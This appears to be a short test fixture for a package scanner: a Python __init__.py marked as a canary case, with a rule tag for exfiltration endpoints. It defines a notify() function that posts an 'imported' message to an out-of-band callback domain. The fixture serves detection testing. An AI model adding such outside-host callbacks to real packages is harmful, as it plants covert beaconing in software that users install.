# canary-test: path=ggg/__init__.py artifact=sdist
import requests


def notify():
    url = "inert000.oastify.com"
    requests.post(url, json={"message": "imported"})
# ruleid: EXFIL_ENDPOINT_WITH_NETWORK
